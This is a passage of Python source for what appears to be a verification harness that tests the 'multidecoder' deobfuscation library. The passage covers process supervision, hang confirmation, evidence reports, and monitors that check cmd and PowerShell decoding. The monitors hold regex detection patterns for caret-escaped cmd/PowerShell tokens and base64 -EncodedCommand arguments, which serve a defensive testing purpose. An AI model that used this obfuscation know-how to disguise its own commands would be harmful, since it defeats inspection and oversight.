        if not self._seconds:
            return 1e9
        return self._seconds - (time.time() - self._t0)

    def expired(self) -> bool:
        return self.time_left() <= 0

    # -- observations ----------------------------------------------------
    def count(self, name: str, n: int = 1) -> None:
        self.counters[name] = self.counters.get(name, 0) + n

    def evaluated(self, n: int = 1) -> None:
        self.count("evaluations", n)

    def nontrivial(self, key) -> None:
        self.nontrivial_set.add(key if isinstance(key, str) and len(key) == 16 else digest(key))

    def sample(self, obj) -> None:
        """Reservoir sample of written-out cases."""
        self._sample_seen += 1
        if len(self.samples) < MAX_SAMPLES:
            self.samples.append(obj)
        else:
            j = self._sample_rng.randrange(self._sample_seen)
            if j < MAX_SAMPLES:
                self.samples[j] = obj

    def violation(self, key: str, message: str, case: dict | None = None, **extra) -> None:
        case = case if case is not None else self.current_case
        v = self.violations.setdefault(key, {"key": key, "count": 0, "examples": []})
        v["count"] += 1
        if len(v["examples"]) < MAX_VIOL_PER_KEY:
            ex = {"message": message[:2000], "case": case}
            ex.update(extra)
            v["examples"].append(ex)

    def result(self) -> dict:
        return {
            "counters": self.counters,
            "nontrivial": sorted(self.nontrivial_set),
            "samples": self.samples,
            "violations": self.violations,
            "last_seq": self.seq,
        }


def hx(b: bytes) -> str:
    return b.hex()


def unhx(s: str) -> bytes:
    return bytes.fromhex(s)


# ---------------------------------------------------------------------------
# worker side


def worker_main(prop, argv: list[str]) -> int:
    """argv: tier seed spec.json state_path out.json skip(comma separated seqs or -)"""
    import faulthandler

    faulthandler.enable()
    tier, seed, spec_path, state_path, out_path, skip = argv
    with open(spec_path) as f:
        spec = json.load(f)
    ctx = Ctx(prop.ID, tier, int(seed), spec, state_path, [int(x) for x in skip.split(",") if x.strip("-")])
    harness_error = None
    try:
        env.check_repo_import()
        prop.run_shard(spec, ctx)
    except BaseException:  # noqa: BLE001 - a harness bug must be reported, not lost
        harness_error = traceback.format_exc()
    res = ctx.result()
    res["harness_error"] = harness_error
    tmp = out_path + ".tmp"
    with open(tmp, "w") as f:
        json.dump(res, f)
    os.replace(tmp, out_path)
    return 0


def single_main(prop, argv: list[str]) -> int:
    """Run one case alone (hang confirmation / replay). argv: tier seed case.json out.json cpu_limit"""
    import faulthandler

    faulthandler.enable()
    tier, seed, case_path, out_path, cpu = argv
    cpu = int(float(cpu))
    if cpu > 0:
        resource.setrlimit(resource.RLIMIT_CPU, (cpu, cpu + 5))
        # shortly before the limit, dump where the interpreter is: the innermost repository
        # frame becomes the mechanism key of a confirmed hang
        faulthandler.dump_traceback_later(max(1.0, cpu * 0.85), exit=False)
    with open(case_path) as f:
        case = json.load(f)
    ctx = Ctx(prop.ID, tier, int(seed), replay_mode=True)
    ctx.current_case = case
    err = None
    try:
        env.check_repo_import()
        prop.replay(case, ctx)
    except BaseException:  # noqa: BLE001
        err = traceback.format_exc()
    res = ctx.result()
    res["harness_error"] = err
    with open(out_path, "w") as f:
        json.dump(res, f)
    return 0


# ---------------------------------------------------------------------------
# supervisor side


def _cpu_seconds(pid: int) -> float | None:
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            data = f.read()
        rest = data[data.rindex(b")") + 2 :].split()
        return (int(rest[11]) + int(rest[12])) / CLK_TCK
    except (OSError, ValueError, IndexError):
        return None


def _read_state(path: str):
    try:
        with open(path, "rb") as f:
            line = f.read(1 << 20).split(b"\n", 1)[0]
        seq, payload = line.split(b"\t", 1)
        return int(seq), json.loads(payload)
    except (OSError, ValueError):
        return None


class _Proc:
    def __init__(self, shard_idx, spec, workdir, prop_id, tier, seed, skip=(), attempt=0):
        self.shard_idx = shard_idx
        self.spec = spec
        self.attempt = attempt
        self.base = os.path.join(workdir, f"shard{shard_idx}_{attempt}")
        self.spec_path = self.base + ".spec.json"
        self.state_path = self.base + ".state"
        self.out_path = self.base + ".out.json"
        self.log_path = self.base + ".log"
        with open(self.spec_path, "w") as f:
            json.dump(spec, f)
        self.log = open(self.log_path, "wb")
        self.popen = subprocess.Popen(
            [env.PYTHON, "-m", "vf.main", "--worker", prop_id, tier, str(seed), self.spec_path, self.state_path,
             self.out_path, ",".join(str(x) for x in skip) or "-"],
            cwd=env.VERIF_DIR,
            stdout=self.log,
            stderr=subprocess.STDOUT,
        )
        self.last_seq = None
        self.cpu_at_change = 0.0
        self.skip = list(skip)


def confirm_hang(prop_id, tier, seed, case, workdir, budget) -> tuple[str, dict | None]:
    """Re-run one case alone under RLIMIT_CPU = 3x budget.
    Returns ('hang'|'crash'|'ok', result)."""
    tag = digest(json.dumps(case, sort_keys=True))
    case_path = os.path.join(workdir, f"single_{tag}.json")
    out_path = os.path.join(workdir, f"single_{tag}.out.json")
    with open(case_path, "w") as f:
        json.dump(case, f)
    limit = int(budget * 3)
    with open(os.path.join(workdir, f"single_{tag}.log"), "wb") as log:
        p = subprocess.Popen(
            [env.PYTHON, "-m", "vf.main", "--single", prop_id, tier, str(seed), case_path, out_path, str(limit)],
            cwd=env.VERIF_DIR, stdout=log, stderr=subprocess.STDOUT,
        )
        try:
            p.wait(timeout=limit * 20 + 120)
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait()
            return "inconclusive", None
    if p.returncode in (-signal.SIGXCPU, -signal.SIGKILL):
        where = "unknown"
        try:
            with open(os.path.join(workdir, f"single_{tag}.log"), "r", errors="replace") as f:
                for line in f:
                    line = line.strip()
                    if line.startswith("File ") and "/multidecoder/" in line and "/vf/" not in line:
                        path = line.split('"')[1].split("/multidecoder/", 1)[1]
                        func = line.rsplit(" in ", 1)[1] if " in " in line else "?"
                        where = f"{path}:{func}"
                        break
        except (OSError, IndexError):
            pass
        return "hang", {"where": where}
    if p.returncode != 0:
        return "crash", {"returncode": p.returncode}
    try:
        with open(out_path) as f:
            return "ok", json.load(f)
    except (OSError, ValueError):
        return "crash", {"returncode": p.returncode}


def _shorten(case):
    out = {}
    for k, v in (case or {}).items():
        out[k] = (v[:400] + "...") if isinstance(v, str) and len(v) > 400 else v
    return out


def merge(into: dict, res: dict) -> None:
    for k, v in res.get("counters", {}).items():
        into["counters"][k] = into["counters"].get(k, 0) + v
    into["nontrivial"].update(res.get("nontrivial", []))
    for s in res.get("samples", []):
        into["samples_all"].append(s)
    for key, v in res.get("violations", {}).items():
        cur = into["violations"].setdefault(key, {"key": key, "count": 0, "examples": []})
        cur["count"] += v["count"]
        for ex in v["examples"]:
            if len(cur["examples"]) < MAX_VIOL_PER_KEY:
                cur["examples"].append(ex)
    if res.get("harness_error"):
        into["harness_errors"].append(res["harness_error"])


def supervise(prop, tier: str, seed: int, shards: list[dict], workdir: str, wall_limit: float) -> dict:
    budget = float(os.environ.get("VERIF_CASE_CPU", CASE_CPU_BUDGET[tier]))
    merged = {
        "counters": {}, "nontrivial": set(), "samples_all": [], "violations": {}, "harness_errors": [],
        "hang_suspects": 0, "suspect_cases": [], "hangs_confirmed": 0, "worker_crashes": 0, "watchdog": False, "shards": len(shards),
    }
    pending = list(enumerate(shards))
    running: list[_Proc] = []
    t0 = time.time()

    def start(idx, spec, skip=(), attempt=0):
        running.append(_Proc(idx, spec, workdir, prop.ID, tier, seed, skip, attempt))

    def collect(p: _Proc) -> bool:
        try:
            with open(p.out_path) as f:
                merge(merged, json.load(f))
            return True
        except (OSError, ValueError):
            return False

    while pending or running:
        while pending and len(running) < NPROC:
            idx, spec = pending.pop(0)
            start(idx, spec)
        time.sleep(0.05 if len(running) < NPROC and not pending else 0.2)
        if time.time() - t0 > wall_limit:
            merged["watchdog"] = True
            for p in running:
                p.popen.kill()
                p.popen.wait()
                p.log.close()
            break
        for p in list(running):
            rc = p.popen.poll()
            if rc is None:
                st = _read_state(p.state_path)
                cpu = _cpu_seconds(p.popen.pid)
                if cpu is None:
                    continue
                seq = st[0] if st else None
                if seq != p.last_seq:
                    p.last_seq = seq
                    p.cpu_at_change = cpu
                elif st is not None and cpu - p.cpu_at_change > budget:
                    # hang suspect
                    p.popen.kill()
                    p.popen.wait()
                    p.log.close()
                    running.remove(p)
                    merged["hang_suspects"] += 1
                    if merged["hangs_confirmed"] >= 3:
                        # the verdict is already 'violated'; do not spend minutes re-confirming every further
                        # suspect of an evidently broken tree - the shard is abandoned and that is recorded
                        merged["shards_abandoned"] = merged.get("shards_abandoned", 0) + 1
                        merged["suspect_cases"].append({"verdict": "not re-run (3 hangs already confirmed)", "case": _shorten(st[1])})
                        continue
                    verdict, info = confirm_hang(prop.ID, tier, seed, st[1], workdir, budget)
                    merged["suspect_cases"].append({"verdict": verdict, "case": _shorten(st[1])})
                    if verdict == "hang":
                        merged["hangs_confirmed"] += 1
                        hkey = "hang:" + (info or {}).get("where", "unknown")
                        v = merged["violations"].setdefault(
                            hkey, {"key": hkey, "count": 0, "examples": []})
                        v["count"] += 1
                        if len(v["examples"]) < MAX_VIOL_PER_KEY:
                            v["examples"].append({
                                "message": f"case did not terminate within {int(budget*3)} CPU-seconds (twice, second time alone)",
                                "case": st[1]})
                    elif verdict == "inconclusive":
                        merged["harness_errors"].append("hang suspect could not be confirmed (wall watchdog)")
                    # partial results of the killed worker are lost: the shard is re-run from
                    # its beginning with this case (and earlier offenders) skipped
                    if p.attempt < 20:
                        start(p.shard_idx, p.spec, skip=p.skip + [seq], attempt=p.attempt + 1)
                continue
            # finished
            p.log.close()
            running.remove(p)
            ok = collect(p)
            if rc != 0 or not ok:
                st = _read_state(p.state_path)
                merged["worker_crashes"] += 1
                if rc is not None and rc < 0 and st is not None:
                    key = f"crash:signal{-rc}"
                    v = merged["violations"].setdefault(key, {"key": key, "count": 0, "examples": []})
                    v["count"] += 1
                    try:
                        with open(p.log_path, "rb") as f:
                            tail = f.read()[-1500:].decode("utf-8", "replace")
                    except OSError:
                        tail = ""
                    if len(v["examples"]) < MAX_VIOL_PER_KEY:
                        v["examples"].append({"message": f"worker died with signal {-rc}: {tail}", "case": st[1]})
                    if p.attempt < 20:
                        start(p.shard_idx, p.spec, skip=p.skip + [st[0]], attempt=p.attempt + 1)
                else:
                    try:
                        with open(p.log_path, "rb") as f:
                            tail = f.read()[-1500:].decode("utf-8", "replace")
                    except OSError:
                        tail = ""
                    merged["harness_errors"].append(f"worker exit {rc} without result: {tail}")
    merged["wall_s"] = time.time() - t0
    return merged
