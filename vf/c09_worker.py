"""Subprocess helper of C09: scans a corpus under the interpreter's PYTHONHASHSEED (and, optionally, a
shuffled directory enumeration order) and writes one digest per (configuration, input)."""

from __future__ import annotations

import hashlib
import json
import os
import random
import sys

from vf import env  # noqa: F401  (puts the tree under test first on sys.path)
from vf import tree

CONFIGS = {
    "default": {},
    "include4": {"include": ["shell", "filename", "path", "network"]},
    "exclude3": {"exclude": ["base64", "hex", "xml"]},
    "include-gen": {"include": ["vba", "shell", "filename", "concat", "replace", "reverse"]},
}


def digest_tree(root) -> str:
    return hashlib.sha1(repr(tree.canon(root)).encode("utf-8", "surrogatepass")).hexdigest()[:20]


class _ShuffledScandir:
    def __init__(self, real, rnd):
        with real as it:
            self.entries = list(it)
        rnd.shuffle(self.entries)
        self.i = 0

    def __iter__(self):
        return self

    def __next__(self):
        if self.i >= len(self.entries):
            raise StopIteration
        e = self.entries[self.i]
        self.i += 1
        return e

    def __enter__(self):
        return self

    def __exit__(self, *a):
        return False

    def close(self):
        pass


def shuffle_fs(seed):
    """Replace os.scandir / os.listdir by wrappers returning a seeded random permutation."""
    rnd = random.Random(seed)
    real_scandir, real_listdir = os.scandir, os.listdir

    def scandir(path="."):
        return _ShuffledScandir(real_scandir(path), rnd)

    def listdir(path="."):
        out = real_listdir(path)
        rnd.shuffle(out)
        return out

    os.scandir, os.listdir = scandir, listdir
    return lambda: (setattr(os, "scandir", real_scandir), setattr(os, "listdir", real_listdir))


def main():
    corpus_path, out_path = sys.argv[1], sys.argv[2]
    fs_seed = sys.argv[3] if len(sys.argv) > 3 and sys.argv[3] != "-" else None
    kwdir = sys.argv[4] if len(sys.argv) > 4 else ""
    from multidecoder.multidecoder import Multidecoder
    from multidecoder.registry import build_registry

    with open(corpus_path) as f:
        corpus = [bytes.fromhex(x) for x in json.load(f)]
    out = {}
    for name, kw in CONFIGS.items():
        undo = shuffle_fs(fs_seed) if fs_seed is not None else None
        try:
            if kw or kwdir:
                reg = build_registry(kwdir, **kw)
            else:
                reg = None
            md = Multidecoder(reg)
        finally:
            if undo:
                undo()
        res = []
        for data in corpus:
            try:
                res.append(digest_tree(md.scan(data)))
            except Exception as e:  # noqa: BLE001
                res.append("EXC:" + type(e).__name__)
        out[name] = res
    with open(out_path, "w") as f:
        json.dump({"hashseed": os.environ.get("PYTHONHASHSEED"), "fs_seed": fs_seed, "digests": out}, f)


if __name__ == "__main__":
    main()
