"""Process environment shared by supervisor and workers.

Importing this module puts ${VERIF_REPO:-/repo}/src first on sys.path so that
`import multidecoder` always resolves to the working tree under test (the
editable install in /venv points at /repo/src as well; VERIF_REPO lets the
mutation self-tests aim the very same checks at a scratch copy).
"""

from __future__ import annotations

import os
import sys

VERIF_DIR = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
REPO = os.path.abspath(os.environ.get("VERIF_REPO", "/repo"))
REPO_SRC = os.path.join(REPO, "src")
PYTHON = sys.executable or "/venv/bin/python"

if REPO_SRC in sys.path:
    sys.path.remove(REPO_SRC)
sys.path.insert(0, REPO_SRC)
sys.dont_write_bytecode = True


def seed() -> int:
    try:
        return int(os.environ.get("VERIF_SEED", "0"))
    except ValueError:
        return 0


def scratch_root() -> str:
    base = os.environ.get("VERIF_TMPDIR") or ("/dev/shm" if os.path.isdir("/dev/shm") else "/tmp")
    return base


def check_repo_import() -> str:
    """Import multidecoder and make sure it came from REPO_SRC."""
    import multidecoder

    path = os.path.dirname(os.path.abspath(multidecoder.__file__))
    want = os.path.join(REPO_SRC, "multidecoder")
    if os.path.realpath(path) != os.path.realpath(want):
        raise RuntimeError(f"multidecoder imported from {path}, expected {want}")
    return path
