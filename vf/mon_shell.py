"""C16 monitors: cmd / powershell result delimiting and de-escaping."""

from __future__ import annotations

import base64
import re

from vf.refs import caret

# The cmd token as documented (quoted binary with optional system32 path and .exe, or bare c^m^d with optional path)
CMD_TOKEN = re.compile(rb'(?i)("(?:C:\\WINDOWS\\system32\\)?\bcmd(?:.exe)?"|(?:C:\\Windows\\System32\\)?\bc\^?m\^?d\b)')
PS_TOKEN = re.compile(rb"(?i)\^?p\^?(?:o\^?w\^?e\^?r\^?s\^?h\^?e\^?l\^?l|w\^?s\^?h)")
ENC_WORD = b"encodedcommand"


def expected_cmd_hits(data: bytes):
    """[(start, end)] by the statement: starts at a cmd token, region runs to the next NUL (or end of text),
    the result ends at the first unbalanced ')' of that region."""
    out = []
    pos = 0
    n = len(data)
    while pos <= n:
        m = CMD_TOKEN.search(data, pos)
        if not m:
            break
        start = m.start()
        nul = data.find(b"\x00", m.end())
        region_end = n if nul < 0 else nul
        end = region_end
        bal = 0
        for i in range(start, region_end):
            c = data[i]
            if c == 0x28:
                bal += 1
            elif c == 0x29:
                bal -= 1
                if bal < 0:
                    end = i
                    break
        out.append((start, end))
        pos = region_end
        if pos == m.start():  # defensive; cannot happen (token is non-empty)
            pos += 1
    return out


def check_cmd_hits(data: bytes, hits, report, counts):
    exp = expected_cmd_hits(data)
    got = [(h.start, h.end) for h in hits]
    counts["cmd_hits_judged"] = counts.get("cmd_hits_judged", 0) + len(hits)
    if got != exp:
        if len(got) == len(exp) and all(g[0] == e[0] for g, e in zip(got, exp)):
            for g, e in zip(got, exp):
                if g[1] != e[1]:
                    rel = "match-end-1" if g[1] == len(data) - 1 or data[g[1]:g[1] + 1] not in (b"", b"\x00", b")") else "other"
                    report(f"cmd:end:{rel}", f"cmd result [{g[0]},{g[1]}) but the first unbalanced ')' / NUL / end rule gives {e[1]} in {data[:100]!r}")
                    break
        else:
            report("cmd:delimiting", f"cmd results {got[:4]} but the documented rule gives {exp[:4]} in {data[:100]!r}")
        return
    for h, (s, e) in zip(hits, exp):
        span = data[s:e]
        want = caret.ref(span)
        label_want = "unescape.shell.carets" if want != span else ""
        if h.type != "shell.cmd":
            report("cmd:type", f"cmd result has type {h.type!r}")
        if h.obfuscation != label_want:
            report("cmd:label", f"label {h.obfuscation!r}, expected {label_want!r} for span {span[:80]!r}")
        toks = want.split()
        val = bytes(h.value)
        if toks and ((not toks[0].startswith(b'"') and toks[0].endswith(b'"')) or (not toks[0].startswith(b"'") and toks[0].endswith(b"'"))):
            counts["cmd_stray_quote"] = counts.get("cmd_stray_quote", 0) + 1
            toks2 = [toks[0][:-1]] + toks[1:]
            if val.split() != [t for t in toks2 if t] and val.split() != toks2:
                report("cmd:value-stray-quote", f"value {val[:80]!r} is not the de-escaped span less the stray quote ({want[:80]!r})")
        elif val != want:
            kind = "carets" if val.replace(b"^", b"") == want.replace(b"^", b"") else "other"
            report(f"cmd:value:{kind}", f"value {val[:80]!r}, de-escaped span {want[:80]!r}")
        if label_want:
            counts["cmd_caret_labelled"] = counts.get("cmd_caret_labelled", 0) + 1
        if e < len(data) and data[e:e + 1] == b")":
            counts["cmd_cut_at_paren"] = counts.get("cmd_cut_at_paren", 0) + 1
            if e < len(data) - 1:
                counts["cmd_cut_at_paren_not_last_byte"] = counts.get("cmd_cut_at_paren_not_last_byte", 0) + 1


# ---------------------------------------------------------------------------
# powershell


def plain_end(data: bytes, start: int):
    """End of a non-encoded powershell string: the nearest quote character before the token decides which
    closer is looked for; closer or opener missing -> end of the text. Returns (end, branch)."""
    i = start - 1
    while i >= 0 and data[i] not in (0x22, 0x27):
        i -= 1
    if i < 0:
        return len(data), "no-context"
    if data[i] == 0x27 and i >= 1 and data[i - 1] == 0x28:
        j = data.find(b"')", start)
        return (len(data) if j < 0 else j), "for-loop"
    closer = b'"' if data[i] == 0x22 else b"'"
    j = data.find(closer, start)
    return (len(data) if j < 0 else j), ("dquote" if closer == b'"' else "squote")


def decode_enc(arg: bytes):
    arg = arg.strip(b"'\"")
    if len(arg) % 4 or b"^" in arg:
        return None
    try:
        raw = base64.b64decode(arg, validate=False)
    except Exception:  # noqa: BLE001
        return None
    return raw.decode("utf-16", errors="ignore").encode()


def is_enc_switch(tok: bytes) -> bool:
    if len(tok) < 2 or tok[:1] not in (b"-", b"/"):
        return False
    w = tok[1:].lower()
    # any prefix of "encodedcommand", or powershell's documented alias -ec (the pattern spells it out: e(?:c|n...))
    return (ENC_WORD.startswith(w) and len(w) >= 1) or w == b"ec"


def check_ps_hits(data: bytes, hits, report, counts):
    for h in hits:
        counts["ps_hits_judged"] = counts.get("ps_hits_judged", 0) + 1
        s = h.start
        if not PS_TOKEN.match(data, s):
            report("ps:start", f"powershell result at {s} does not start at a powershell token in {data[:100]!r}")
            continue
        enc_child = None
        if h.type == "shell.cmd":
            enc_child = next((c for c in h.children if c.type == "shell.powershell"), None)
        is_enc = (h.type == "shell.powershell" and h.obfuscation == "powershell.base64") or \
                 (enc_child is not None and enc_child.obfuscation == "powershell.base64")
        if not is_enc:
            if h.type != "shell.powershell":
                report("ps:type", f"non-encoded powershell result has type {h.type!r}")
                continue
            want_end, branch = plain_end(data, s)
            counts["ps_plain:" + branch] = counts.get("ps_plain:" + branch, 0) + 1
            if h.end != want_end:
                if branch == "no-context" and h.end == len(data) - s:
                    report("ps:end:no-context:end=len(text)-start",
                           f"powershell string with no quote/FOR opener before it: end {h.end}, the text ends at {len(data)} (start {s})")
                elif h.end == -1:
                    report(f"ps:end:{branch}:end=-1", f"end -1 for a powershell string whose closer is missing in {data[:100]!r}")
                else:
                    report(f"ps:end:{branch}:other", f"powershell result [{s},{h.end}) but the documented rule gives end {want_end} in {data[:100]!r}")
            span = data[s:want_end]
            want = caret.ref(span)
            if bytes(h.value) != want:
                report("ps:value", f"value {bytes(h.value)[:80]!r}, de-escaped span {want[:80]!r}")
            lab = "unescape.shell.carets" if want != span else ""
            if h.obfuscation != lab:
                report("ps:label", f"label {h.obfuscation!r}, expected {lab!r}")
            continue
        # encoded command
        counts["ps_encoded"] = counts.get("ps_encoded", 0) + 1
        e = h.end
        if not (s < e <= len(data)):
            report("ps:enc:span", f"encoded powershell result span [{s},{e}) in a {len(data)}-byte text")
            continue
        span = data[s:e]
        stripped = caret.ref(span)
        parts = stripped.rsplit(maxsplit=1)
        if len(parts) != 2:
            report("ps:enc:no-argument", f"encoded result over {span[:80]!r} has no separate argument")
            continue
        decoded = decode_enc(parts[1])
        node = enc_child if enc_child is not None else h
        if enc_child is not None:
            counts["ps_encoded_with_carets"] = counts.get("ps_encoded_with_carets", 0) + 1
            if bytes(h.value) != stripped or h.obfuscation != "unescape.shell.carets" or stripped == span:
                report("ps:enc:cmd-node", f"caret node value {bytes(h.value)[:80]!r} / label {h.obfuscation!r} for span {span[:80]!r}")
        elif stripped != span:
            report("ps:enc:missing-caret-node", f"carets were removed from {span[:80]!r} but no caret-labelled node was reported")
        if decoded is None:
            report("ps:enc:undecodable", f"argument {parts[1][:60]!r} is not valid base64 but a decoded result was reported")
            continue
        inv = parts[0].replace(b"/", b" -").split()
        if not inv or not is_enc_switch(inv[-1]):
            last = inv[-1] if inv else b""
            cut = last.rfind(b"-", 1)
            if len(inv) >= 2 and cut > 0 and is_enc_switch(last[cut:]):
                # two switches glued together by a line continuation: not "value-less switches followed by an
                # encoded-command switch", the value clause does not apply
                counts["ps_enc_glued_switches(out of domain)"] = counts.get("ps_enc_glued_switches(out of domain)", 0) + 1
                continue
            report("ps:enc:switch", f"the token before the argument, {inv[-1:]!r}, is not a prefix of -encodedcommand")
            continue
        head = inv[:-1]
        if head and ((not head[0].startswith(b'"') and head[0].endswith(b'"')) or (not head[0].startswith(b"'") and head[0].endswith(b"'"))):
            head[0] = head[0][:-1]
        want = b" ".join(head) + b" -Command " + decoded
        if bytes(node.value) != want:
            kind = "payload" if not bytes(node.value).endswith(decoded) else "invocation"
            report(f"ps:enc:value:{kind}", f"value {bytes(node.value)[:100]!r}, expected {want[:100]!r}")
