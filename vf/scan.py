"""Scan harness: a Multidecoder under the taps, exception keys, views."""

from __future__ import annotations

import json
import os
import traceback

from vf import env, taps, tree

_SRC = os.path.join(env.REPO_SRC, "multidecoder")


def exc_key(e: BaseException) -> str:
    """Mechanism key of an exception: innermost frame inside the repository
    (file, function) + exception type. Never depends on the input bytes."""
    inner = None
    for fs in traceback.extract_tb(e.__traceback__):
        if os.path.realpath(fs.filename).startswith(os.path.realpath(_SRC)):
            inner = fs
    if inner is None:
        return f"exc:{type(e).__name__}"
    rel = os.path.relpath(os.path.realpath(inner.filename), os.path.realpath(_SRC))
    return f"exc:{rel}:{inner.name}:{type(e).__name__}"


def exc_text(e: BaseException) -> str:
    return "".join(traceback.format_exception_only(type(e), e)).strip()[:300]


class Harness:
    def __init__(self, registry=None, tap=True, record_hits=True):
        from multidecoder.multidecoder import Multidecoder

        self.md = Multidecoder(registry)
        self.tap = taps.Tap(self.md, record_hits=record_hits) if tap else None

    def scan(self, data: bytes, depth=None):
        if self.tap is None:
            return self.md.scan(data) if depth is None else self.md.scan(data, depth)
        self.tap.reset()
        with self.tap:
            return self.md.scan(data) if depth is None else self.md.scan(data, depth)

    def scan_node(self, node, depth):
        if self.tap is None:
            return self.md.scan_node(node, depth)
        self.tap.reset()
        with self.tap:
            return self.md.scan_node(node, depth)


def tree_depth(root) -> int:
    d = 0
    for _, _, depth in tree.preorder(root):
        if depth > d:
            d = depth
    return d


VIEW_NAMES = ("flatten", "iter", "summary", "json")


def run_views(root):
    """The four read-only views of C01. Returns list of (view, exception or None, result)."""
    from multidecoder.json_conversion import tree_to_json
    from multidecoder.query import string_summary

    out = []
    for name in VIEW_NAMES:
        try:
            if name == "flatten":
                res = root.flatten()
            elif name == "iter":
                res = list(root)
            elif name == "summary":
                res = string_summary(root)
            else:
                res = json.loads(tree_to_json(root))
            out.append((name, None, res))
        except BaseException as e:  # noqa: BLE001
            if isinstance(e, (KeyboardInterrupt, SystemExit)):
                raise
            out.append((name, e, None))
    return out


def view_key(name: str, e: BaseException, root) -> str:
    if isinstance(e, RecursionError):
        deep = tree_depth(root) >= 500
        return f"view:{name}:RecursionError:" + ("tree-depth>=500" if deep else "shallow")
    return f"view:{name}:" + exc_key(e)
