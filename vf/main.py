"""./check entry point: supervisor, worker and replay modes."""

from __future__ import annotations

import argparse
import importlib
import json
import os
import shutil
import sys
import tempfile
import time

from vf import env, findings, runner

PROPS = [f"C{i:02d}" for i in range(1, 21)]


def load_prop(pid: str):
    return importlib.import_module(f"vf.props.{pid.lower()}")


def write_evidence(prop, tier, seed, merged, verdict, extra):
    cov = {
        "evaluations": int(merged["counters"].get("evaluations", 0)),
        "distinct_nontrivial": len(merged["nontrivial"]),
        "rule": prop.RULE,
        "samples": merged["samples"],
        "counters": dict(sorted(merged["counters"].items())),
        "shards": merged.get("shards", 0),
        "hang_suspects": merged.get("hang_suspects", 0),
        "hangs_confirmed": merged.get("hangs_confirmed", 0),
        "slow_or_suspect_cases": merged.get("suspect_cases", [])[:10],
        "worker_crashes": merged.get("worker_crashes", 0),
        "shards_abandoned_after_3_confirmed_hangs": merged.get("shards_abandoned", 0),
        "verdict": verdict,
        "repo": env.REPO,
    }
    cov.update(extra)
    ev = {
        "property_id": prop.ID,
        "tier": tier,
        "seed": seed,
        "level": "exploration",
        "coverage": cov,
        "assumptions": list(getattr(prop, "ASSUMPTIONS", [])),
        "wall_s": round(merged.get("wall_s", 0.0), 3),
        "violations": sum(v["count"] for v in merged["violations"].values()),
    }
    out_dir = os.environ.get("VERIF_EVIDENCE_DIR") or os.path.join(env.VERIF_DIR, "evidence")
    os.makedirs(out_dir, exist_ok=True)
    path = os.path.join(out_dir, f"{prop.ID}.json")
    tmp = path + ".tmp"
    with open(tmp, "w") as f:
        json.dump(ev, f, indent=1, default=str)
    os.replace(tmp, path)
    return path


def pick_samples(all_samples, k=8):
    # deterministic spread over shards
    if len(all_samples) <= k:
        return all_samples
    step = len(all_samples) / k
    return [all_samples[int(i * step)] for i in range(k)]


def run_check(pid: str, tier: str) -> int:
    prop = load_prop(pid)
    seed = env.seed()
    env.check_repo_import()
    workdir = tempfile.mkdtemp(prefix=f"vf_{pid}_", dir=env.scratch_root())
    os.environ["VERIF_WORKDIR"] = workdir
    try:
        shards = prop.plan(tier, seed)
        expected = float(getattr(prop, "EXPECTED_WALL", {}).get(tier, 120))
        merged = runner.supervise(prop, tier, seed, shards, workdir, wall_limit=max(600.0, expected * 10))
        merged["samples"] = pick_samples(merged.pop("samples_all"))
        known = findings.load()
        unlisted = []
        matched = []
        for key, v in sorted(merged["violations"].items()):
            if (pid, key) in known:
                matched.append((key, known[(pid, key)], v["count"]))
            else:
                unlisted.append(v)
        inconclusive = []
        if merged["watchdog"]:
            inconclusive.append("wall-clock watchdog fired")
        for e in merged["harness_errors"]:
            inconclusive.append("harness error: " + e.strip().splitlines()[-1][:300])
        need = getattr(prop, "REQUIRED", {})
        need = need.get(tier, need) if isinstance(need, dict) and ("quick" in need or "thorough" in need) else need
        for name, minimum in (need or {}).items():
            if merged["counters"].get(name, 0) < minimum:
                inconclusive.append(f"deciding counter {name}={merged['counters'].get(name, 0)} < {minimum}")
        if hasattr(prop, "inconclusive"):
            inconclusive.extend(prop.inconclusive(merged))
        # cases set aside because the expression together with neighbouring text formed another documented decoding: a
        # handful is generator noise, many means a pattern now matches more than documented (or the generator drifted) -
        # either way the cases that would decide were not judged
        for name, n in merged["counters"].items():
            if name.startswith("discarded:") and "neighbour" in name:
                judged = max(merged["counters"].get("stacks_judged", 0), merged["counters"].get("judged", 0), 1)
                if n > max(25, judged // 100):
                    inconclusive.append(f"{n} cases set aside as collisions with another decoding ({name}); {judged} judged")
        if len(merged["nontrivial"]) < 2:
            inconclusive.append("fewer than 2 distinct non-trivial cases")
        if unlisted:
            verdict = "violated"
        elif inconclusive:
            verdict = "inconclusive"
        else:
            verdict = "held_on_observed"
        extra = {
            "known_findings_matched": [{"key": k, "what": w, "count": c} for k, w, c in matched],
            "unlisted_violation_keys": [v["key"] for v in unlisted],
            "inconclusive_reasons": inconclusive,
        }
        if hasattr(prop, "evidence_extra"):
            extra.update(prop.evidence_extra(merged))
        path = write_evidence(prop, tier, seed, merged, verdict, extra)
        c = merged["counters"]
        print(f"[{pid}] tier={tier} seed={seed} repo={env.REPO} wall={merged['wall_s']:.1f}s "
              f"evaluations={c.get('evaluations', 0)} distinct_nontrivial={len(merged['nontrivial'])} "
              f"shards={merged['shards']} hang_suspects={merged['hang_suspects']}")
        shown = {k: v for k, v in sorted(c.items()) if k != "evaluations"}
        print(f"[{pid}] observed: " + json.dumps(shown))
        for sc in merged.get("suspect_cases", [])[:10]:
            print(f"[{pid}] hang suspect ({sc['verdict']} when re-run alone): {json.dumps(sc['case'])[:300]}")
        for key, what, count in matched:
            print(f"KNOWN-FINDING: property={pid} key={key} x{count} {what}")
        rc = 0
        if unlisted:
            rdir = os.path.join(env.VERIF_DIR, "replays", pid)
            os.makedirs(rdir, exist_ok=True)
            for v in unlisted:
                ex = v["examples"][0]
                rp = os.path.join(rdir, runner.digest(v["key"]) + ".json")
                with open(rp, "w") as f:
                    json.dump({"property": pid, "key": v["key"], "count": v["count"], "tier": tier, "seed": seed,
                               "message": ex["message"], "case": ex["case"], "more_examples": v["examples"][1:]},
                              f, indent=1, default=str)
                print(f"[{pid}] violation key={v['key']} x{v['count']}: {ex['message'][:400]}")
                print(f"VIOLATION property={pid} replay={rp}")
            rc = 1
        elif inconclusive:
            for r in inconclusive:
                print(f"INCONCLUSIVE property={pid} {r}")
            rc = 2
        print(f"[{pid}] verdict={verdict} evidence={path}")
        return rc
    finally:
        if not os.environ.get("VERIF_KEEP_WORKDIR"):
            shutil.rmtree(workdir, ignore_errors=True)


def run_replay(pid: str, path: str) -> int:
